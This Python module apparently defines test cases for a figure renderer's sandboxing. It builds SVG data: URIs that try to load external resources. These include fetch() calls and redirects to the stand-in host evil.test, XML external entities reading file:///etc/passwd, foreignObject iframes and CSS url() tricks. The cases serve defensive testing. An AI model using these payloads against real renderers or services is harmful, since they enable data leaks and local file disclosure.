"""Pictures inside of a figure, as ``data:`` URIs, that reach out of it."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote

from ..cases import ANY, Case, Drawn
from .places import BLANK, image

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["as_data", "cases"]

WEB = "http://evil.test"
FILE = "file:///SECRETS/secret.svg"
ALL = 'width="64" height="64"'


def as_data(svg: str) -> str:
    """Write an SVG as an address; not in base64, so that what stands for the recorder is found."""
    return "data:image/svg+xml," + quote(svg, safe="/:.'=")


def svg(inner: str, before: str = "") -> str:
    """A green picture with something in it."""
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" '
        f'xmlns:h="http://www.w3.org/1999/xhtml" {ALL}><rect {ALL} fill="green"/>{inner}</svg>'
    )


INNER = {
    "image": f'<image href="{{}}" {ALL}/>',
    "image, old": f'<image x:href="{{}}" {ALL}/>',
    "use": f'<use href="{{}}#x" {ALL}/>',
    "feImage": f'<filter id="f"><feImage href="{{}}"/></filter><rect {ALL} filter="url(#f)"/>',
    "fill": f'<rect {ALL} fill="url({{}}#x)"/>',
    "filter": f'<rect {ALL} fill="green" filter="url({{}}#x)"/>',
    "mask": f'<rect {ALL} fill="green" style="mask:url({{}})"/>',
    "import": "<style>@import url({});</style>",
    "font": "<style>@font-face{{font-family:x;src:url({})}}text{{font-family:x}}</style>",
    "background": "<style>svg{{background:url({})}}</style>",
    "content": "<style>rect{{content:url({})}}</style>",
    "cursor": '<g style="cursor:url({}),auto"/>',
    "foreign image": f'<foreignObject {ALL}><h:img src="{{}}" {ALL}/></foreignObject>',
    "foreign frame": f'<foreignObject {ALL}><h:iframe src="{{}}" {ALL}/></foreignObject>',
    "foreign object": f'<foreignObject {ALL}><h:object data="{{}}" {ALL}/></foreignObject>',
    "foreign sheet": '<foreignObject><h:link rel="stylesheet" href="{}"/></foreignObject>',
    "foreign refresh": '<h:meta http-equiv="refresh" content="0;url={}"/>',
    "foreign base": f'<h:base href="{{}}"/><image href="x.svg" {ALL}/>',
    "script": "<script href='{}'/><script>fetch('{}');location='{}'</script>",
    "events": f'<image href="x:" {ALL} onerror="fetch(\'{{}}\')"/><set onbegin="fetch(\'{{}}\')"/>',
    "animation": f'<image {ALL}><set attributeName="href" to="{{}}"/></image>',
    "link": f'<a href="{{}}"><rect {ALL} fill="green"/></a>',
    "text path": '<text><textPath href="{}#x">x</textPath></text>',
    "svg in svg": f'<image href="data:image/svg+xml,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27%3E'
    f'%3Cimage href=%27{{}}%27 width=%2764%27 height=%2764%27/%3E%3C/svg%3E" {ALL}/>',
}  # fmt: skip

BEFORE = {
    "style sheet": '<?xml-stylesheet href="{}" type="text/css"?>',
    "transformation": '<?xml-stylesheet href="{}" type="text/xsl"?>',
    "document type": '<!DOCTYPE svg PUBLIC "x" "{}">',
    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "{}">]>',
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "{}"> %x;]>',
}

OTHER_FORMS = {
    "html": f"data:text/html,<img src={WEB}/html.svg>",
    "xml": f"data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><img src='{WEB}/x'/></x>",
    "nothing": "data:",
    "no comma": "data:image/svg+xml",
    "wrong base64": "data:image/png;base64,!!!!",
    "a fragment": "data:image/svg+xml,%3Csvg/%3E#" + "a" * 1000,
    "upper case": f"DATA:image/svg+xml,{WEB}/upper.svg",
    "upper case, host": "DATA://evil.test/upper.svg",
    "space before": " data:image/svg+xml,x",
    "tab inside": "da\tta:image/svg+xml,x",
    "host": "data://evil.test/host.svg",
    "address": f"data:,{WEB}/comma.svg",
    "quotes": f"data:image/png,\"><image href='{WEB}/quotes.svg'/>",
    "css": f"data:image/png,x);background:url({WEB}/css.svg)",
    "script": "data:text/javascript,alert(1)",
    "nulls": "data:image/svg+xml,\x00\x00",
    "lone surrogate": "data:image/svg+xml,\ud800",
}


def _leaves_a_sign(name: str) -> bool:
    """Whether the browser shows that something was not loaded."""
    return name.startswith(
        ("foreign", "image", "events", "animation", "svg in", "fill", "filter", "mask")
    )


def cases() -> Iterator[Case]:
    """SVGs that load, in pictures of the layout and of traces."""
    green = image(as_data(svg("")), sizing="stretch")
    for name, inner in INNER.items():
        like = None if _leaves_a_sign(name) else green
        for address in (f"{WEB}/inner.svg", FILE, "hostile.svg"):
            source = as_data(
                svg(inner.replace("{{", "{").replace("}}", "}").replace("{}", address))
            )
            place = image(source, sizing="stretch")
            yield Case("picture in a figure", f"{name}, {address[:5]}", place, Drawn(like))
    for name, before in BEFORE.items():
        for address in (f"{WEB}/before.css", FILE, "file:///etc/passwd"):
            text = "<text>&amp;x;</text>" if name != "entity" else '<text y="20">&x;</text>'
            source = as_data(svg(text, before.format(address)))
            yield Case("picture in a figure", f"{name}, {address[:12]}", image(source), ANY)
    for name, source in OTHER_FORMS.items():
        yield Case("picture of another form", name, image(source), ANY)
        trace = {"data": [{"type": "image", "source": source}]}
        yield Case("image trace of another form", name, trace, ANY)
    for name in ("image", "foreign image", "import"):
        source = as_data(svg(INNER[name].replace("{}", f"{WEB}/trace.svg")))
        yield Case("image trace", name, {"data": [{"type": "image", "source": source}]}, ANY)
    style = {"version": 8, "sources": {}, "layers": [], "sprite": as_data(svg(""))}
    yield Case(
        "map style",
        "sprite of data",
        {"data": [{"type": "scattermap"}], "layout": {"map": {"style": style}}},
        ANY,
    )
    yield Case("picture in a figure", "none", BLANK, Drawn(BLANK))
